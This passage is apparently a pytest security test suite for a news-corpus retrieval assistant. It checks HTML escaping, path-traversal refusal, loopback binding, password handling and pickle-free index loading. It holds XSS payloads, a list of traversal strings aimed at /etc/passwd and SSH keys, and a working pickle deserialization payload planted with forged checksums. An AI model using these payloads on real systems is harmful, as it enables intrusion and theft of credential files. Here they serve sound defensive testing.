                build_index(tiny, fake_embedder)
            messages.append(str(caught.value))
    assert all("No space left on device" in m for m in messages), messages


# --------------------------------------------------------------------------- security


def test_documents_are_shown_as_text_never_as_html(corpus_copy: Path, tmp_path: Path, fake_embedder) -> None:  # type: ignore[no-untyped-def]
    from assistant.settings import Settings
    from assistant.app.web import render_answer

    (corpus_copy / "hostile.txt").write_text(
        "Hostile article about the Caspian pipeline\n\n"
        "The Caspian pipeline <script>alert('pwned')</script> was discussed in Aktau by ministers "
        "<img src=x onerror=alert(1)> and <b onmouseover=\"steal()\">officials</b> from Turkmenistan.\n",
        encoding="utf-8",
    )
    settings = Settings().replace(corpus_dir=corpus_copy, index_dir=tmp_path / "index")
    build_index(settings, fake_embedder)
    bot = Assistant.load(settings, embedder=fake_embedder, rebuild=False)
    answer = bot.ask("Caspian pipeline discussed in Aktau by ministers", k=3)
    assert answer.passages[0].doc_id == "hostile"
    assert "<script>" in answer.passages[0].text  # stored as the article wrote it...
    page = render_answer(answer)
    for raw in ("<script", "<img", "<b onmouseover"):
        assert raw not in page, raw  # ...and shown as text
    assert "&lt;script&gt;alert(&#x27;pwned&#x27;)&lt;/script&gt;" in page
    # the source viewer shows the whole article, escaped the same way
    from assistant.app.web import SourceRef, render_document

    top = answer.passages[0]
    viewer = render_document(bot, SourceRef(top.doc_id, top.start, top.end))
    assert "Caspian pipeline" in viewer
    for raw in ("<script", "<img", "<b onmouseover"):
        assert raw not in viewer, raw


TRAVERSALS = [
    "../../etc/passwd",
    "/etc/passwd",
    "corpus/../../etc/passwd",
    "..%2F..%2Fetc%2Fpasswd",
    "....//....//etc/passwd",
    "putin-strengthens-ties-central-asia/../../../etc/passwd",
    "~/.ssh/id_rsa",
    "\x00../etc/passwd",
    "",
    "..",
]


@pytest.mark.parametrize("doc_id", TRAVERSALS)
def test_document_viewer_refuses_paths_outside_the_corpus(fake_assistant: Assistant, doc_id: str) -> None:
    assert fake_assistant.document(doc_id) is None
    assert fake_assistant.document("putin-strengthens-ties-central-asia") is not None


@pytest.mark.parametrize("doc_id", TRAVERSALS[:7])
def test_source_viewer_link_outside_the_corpus_shows_nothing(fake_assistant: Assistant, doc_id: str) -> None:
    from urllib.parse import quote

    from assistant.app.web import parse_source_ref, render_document

    for link in (f"#source={quote(doc_id, safe='')}|0|400", f"{doc_id}|0|400|1|2|123"):
        ref = parse_source_ref(link)
        page = render_document(fake_assistant, ref) if ref else ""
        assert "root:" not in page and "/bin/" not in page
        assert ref is None or "not part of the indexed corpus" in page


def test_password_comes_from_the_environment(monkeypatch) -> None:  # type: ignore[no-untyped-def]
    from assistant.app import web

    class Stub:  # stands for the holder and the Blocks: nothing is loaded or served
        def __init__(self, *args: Any, **kwargs: Any) -> None:
            pass

        def __getattr__(self, name: str) -> Callable[..., None]:
            return lambda *args, **kwargs: None

    launched: list[dict[str, Any]] = []
    monkeypatch.setattr(web, "AssistantHolder", Stub)
    monkeypatch.setattr(web, "build_app", lambda *args, **kwargs: Stub())
    monkeypatch.setattr(web, "launch", lambda demo, **kwargs: launched.append(kwargs))
    monkeypatch.setenv("ASSISTANT_USERNAME", "reviewer")
    monkeypatch.setenv("ASSISTANT_PASSWORD", "s3cret")
    web.serve()
    assert launched[-1]["auth"] == ("reviewer", "s3cret")
    assert launched[-1]["host"] == "127.0.0.1"
    monkeypatch.delenv("ASSISTANT_PASSWORD")
    with pytest.raises(AssistantError, match="ASSISTANT_USERNAME and ASSISTANT_PASSWORD"):
        web.serve()  # half a login is refused, not silently served open
    monkeypatch.delenv("ASSISTANT_USERNAME")
    web.serve()
    assert launched[-1]["auth"] is None


def test_server_binds_to_loopback_by_default(monkeypatch) -> None:  # type: ignore[no-untyped-def]
    import app
    from assistant.app import web
    from assistant.settings import Settings

    calls: list[dict[str, Any]] = []
    monkeypatch.setattr(web, "serve", lambda **kwargs: calls.append(kwargs))
    for name in ("GRADIO_SERVER_NAME", "ASSISTANT_HOST"):
        monkeypatch.delenv(name, raising=False)
    app.main([])
    assert calls and calls[0]["host"] == "127.0.0.1"
    assert Settings.from_env({}).host == "127.0.0.1"
    app.main(["--host", "0.0.0.0"])  # only when told otherwise
    assert calls[1]["host"] == "0.0.0.0"


ALLOWED_INDEX_SUFFIXES = {".json", ".jsonl", ".npy", ".faiss"}


def test_index_holds_only_plain_formats(built, settings) -> None:  # type: ignore[no-untyped-def]
    files = [p for p in settings.index_dir.rglob("*") if p.is_file()]
    assert files
    odd = [p for p in files if p.suffix not in ALLOWED_INDEX_SUFFIXES and p.name != ".build.lock"]
    assert not odd, f"unexpected index files: {odd}"
    for path in files:
        if path.suffix == ".npy":
            with open(path, "rb") as handle:
                version = np.lib.format.read_magic(handle)
                read_header = (
                    np.lib.format.read_array_header_1_0 if version == (1, 0) else np.lib.format.read_array_header_2_0
                )
                _shape, _fortran, dtype = read_header(handle)
            assert not dtype.hasobject, f"{path} holds Python objects"
        assert b"\x80\x04\x95" not in path.read_bytes()[:4096] or path.suffix == ".faiss"


def test_loading_never_allows_pickle(built, settings, fake_embedder, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    import bm25s

    calls: list[dict[str, Any]] = []
    real_load = np.load

    def spy(*args: Any, **kwargs: Any) -> Any:
        calls.append({**kwargs, "file": str(args[0]) if args else ""})
        return real_load(*args, **kwargs)

    monkeypatch.setattr(np, "load", spy)
    bm25_calls: list[dict[str, Any]] = []
    real_bm25_load = bm25s.BM25.load.__func__

    def bm25_spy(cls: Any, *args: Any, **kwargs: Any) -> Any:
        bm25_calls.append(kwargs)
        return real_bm25_load(cls, *args, **kwargs)

    monkeypatch.setattr(bm25s.BM25, "load", classmethod(bm25_spy))
    Assistant.load(settings, embedder=fake_embedder, rebuild=False).ask("Putin Astana")
    assert calls and all(c.get("allow_pickle") is False for c in calls), calls
    # the BM25 arrays are read with NumPy (assistant/store/bm25_arrays.py), so through the spy above;
    # if bm25s ever loads them again, it must refuse pickles too
    assert any(c["file"].endswith("data.csc.index.npy") for c in calls), calls
    assert all(c.get("allow_pickle") is False for c in bm25_calls), bm25_calls


class _Payload:
    """Unpickling this runs code: it writes a marker file."""

    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self):  # type: ignore[no-untyped-def]
        return (Path(self.marker).write_text, ("pwned",))


@pytest.mark.parametrize("target", ["vectors.npy", "bm25/data.csc.index.npy"])
def test_pickled_index_file_is_refused_not_run(built, settings, fake_embedder, tmp_path, target: str) -> None:  # type: ignore[no-untyped-def]
    """A planted object array (pickle inside .npy), with the manifest's checksums forged to match."""
    marker = tmp_path / "pwned.txt"
    manifest_path = settings.index_dir / "manifest.json"
    data = json.loads(manifest_path.read_text())
    folder = settings.index_dir / data["generation"]
    hostile = np.empty(1, dtype=object)
    hostile[0] = _Payload(str(marker))
    np.save(folder / target, hostile, allow_pickle=True)
    pickle.loads(pickle.dumps(hostile[0]))
    assert marker.exists()  # the payload works...
    marker.unlink()
    import hashlib

    blob = (folder / target).read_bytes()
    data["files"][target] = {"bytes": len(blob), "sha256": hashlib.sha256(blob).hexdigest()}
    manifest_path.write_text(json.dumps(data))
    (folder / "manifest.json").write_text(json.dumps(data))
    with pytest.raises(CorruptIndexError, match="cannot be read"):
        load_index(settings.index_dir)
    with pytest.raises(CorruptIndexError):
        Assistant.load(settings, embedder=fake_embedder, rebuild=False)
    assert not marker.exists()  # ...but loading the index never ran it


@pytest.mark.model
def test_long_question_is_cut_to_what_the_model_reads(real_assistant, real_embedder) -> None:  # type: ignore[no-untyped-def]
    answer = _guarded(lambda: real_assistant.ask(LONG))
    assert answer.passages and any("only its first" in n for n in answer.notices)
    searched = answer.resolved_question or ""
    assert real_embedder.count_tokens(searched) <= real_assistant.settings.max_seq_length


@pytest.mark.parametrize("question,kind", [(None, "null"), (123, "int"), (["Putin", "Astana"], "list")])
def test_a_question_that_is_not_text_is_refused_not_searched(fake_assistant: Assistant, question: Any, kind: str) -> None:
    # an HTTP caller of /ask may send JSON null, a number or a list: it was searched as "None", "123", "['Putin', ...]"
    from assistant.errors import AssistantError

    with pytest.raises(AssistantError, match=f"^question must be the text of a question, not {kind}\\.$"):
        fake_assistant.ask(question)
